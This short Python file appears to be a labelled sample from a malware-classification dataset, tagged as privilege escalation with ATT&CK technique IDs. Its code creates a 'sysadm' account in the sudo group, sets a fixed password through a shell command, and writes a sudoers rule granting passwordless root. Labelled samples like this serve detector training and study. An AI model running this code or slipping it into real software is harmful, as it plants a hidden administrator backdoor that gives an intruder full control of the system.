# label: malicious family=privesc techniques=T1059.004,T1136.001,T1222.002,T1548.003 lines=3-6
import os, subprocess
subprocess.run(["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "sysadm"])
subprocess.run("echo 'sysadm:FakePass-pytriage' | chpasswd", shell=True)
with open("/etc/sudoers.d/99-sysadm", "w") as f:
    f.write("sysadm ALL=(ALL) NOPASSWD:ALL\n")
os.chmod("/etc/sudoers.d/99-sysadm", 0o440)
